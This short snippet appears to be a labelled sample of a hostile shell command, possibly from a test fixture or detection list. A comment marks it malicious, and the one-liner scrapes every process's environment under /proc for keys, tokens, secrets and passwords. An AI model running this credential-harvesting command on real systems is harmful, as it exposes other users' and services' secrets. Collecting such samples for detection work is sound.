# Malicious: scrapes every process's environment for secrets.
cat /proc/*/environ 2>/dev/null | tr '\0' '\n' | grep -iE 'key|token|secret|passw'
